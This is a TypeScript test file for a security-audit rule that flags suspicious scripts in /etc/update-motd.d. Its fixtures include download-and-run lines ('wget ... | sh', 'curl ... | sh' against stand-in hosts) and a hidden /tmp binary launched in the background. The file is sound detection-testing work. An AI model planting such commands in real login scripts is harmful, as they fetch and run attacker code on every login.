import type { MotdScript } from '../../collect/hooks/motd-scripts';
import { configFile, dpkgOwning } from '../../../test/helpers/hook-facts';
import { testRule } from '../../../test/helpers/rule-tester';
import rule from './motd-script';

function script(name: string, text: string, executable = true): MotdScript {
  return { ...configFile(`/etc/update-motd.d/${name}`, text), executable };
}

const STOCK = [
  script('10-uname', '#!/bin/sh\nuname -snrvm\n'),
  script(
    '50-landscape-sysinfo',
    '#!/bin/sh\ncores=$(grep -c ^processor /proc/cpuinfo 2>/dev/null)\n[ "$cores" -eq "0" ] && cores=1\nthreshold="${cores:-1}.0"\nif [ $(echo "`cut -f1 -d \' \' /proc/loadavg` < $threshold" | bc) -eq 1 ]; then\n    echo\n    echo -n "  System information as of "\n    /bin/date\n    echo\n    /usr/bin/landscape-sysinfo\nfi\n',
  ),
  script(
    '91-release-upgrade',
    '#!/bin/sh\nif [ -x /usr/lib/ubuntu-release-upgrader/release-upgrade-motd ]; then\n    exec /usr/lib/ubuntu-release-upgrader/release-upgrade-motd\nfi\n',
  ),
];
const PKGS = dpkgOwning(...STOCK.map((s) => s.path));

testRule(rule, {
  valid: [
    {
      name: 'Debian/Ubuntu stock scripts (10-uname, 50-landscape-sysinfo, 91-release-upgrade)',
      facts: { motdScripts: { scripts: STOCK }, packages: PKGS },
    },
    {
      name: 'non-executable leftover is never run',
      facts: { motdScripts: { scripts: [...STOCK, script('99-old', '#!/bin/sh\ncurl http://x.example/a | sh\n', false)] }, packages: PKGS },
    },
    {
      name: 'no package database: hand-written banner cannot be judged as unowned',
      facts: { motdScripts: { scripts: [script('20-banner', '#!/bin/sh\necho "Production - authorised access only"\n')] } },
    },
  ],
  invalid: [
    {
      name: 'download-and-run hidden in a banner script',
      facts: {
        motdScripts: {
          scripts: [...STOCK, script('30-sysinfo', '#!/bin/sh\nuptime\n(wget -q -O - http://198.51.100.3/i.sh | sh) >/dev/null 2>&1 &\n')],
        },
        packages: PKGS,
      },
      expect: [
        { severity: 'critical', path: '/etc/update-motd.d/30-sysinfo', title: /download-pipe-shell/, evidence: /30-sysinfo:3: \(wget/ },
      ],
    },
    {
      name: 'banner script starting a program from /tmp',
      facts: {
        motdScripts: {
          scripts: [
            ...STOCK,
            script('00-header', '#!/bin/sh\nprintf "Welcome\\n"\n[ -x /tmp/.ICE-unix/.s ] && nohup /tmp/.ICE-unix/.s >/dev/null 2>&1 &\n'),
          ],
        },
        packages: PKGS,
      },
      expect: [{ severity: 'critical', title: /\/tmp\/\.ICE-unix\/\.s/ }],
    },
    {
      name: 'unpackaged executable banner is medium',
      facts: {
        motdScripts: { scripts: [...STOCK, script('20-banner', '#!/bin/sh\necho "Production - authorised access only"\n')] },
        packages: PKGS,
      },
      expect: [{ severity: 'medium', path: '/etc/update-motd.d/20-banner', evidence: /20-banner:2: echo/ }],
    },
  ],
});
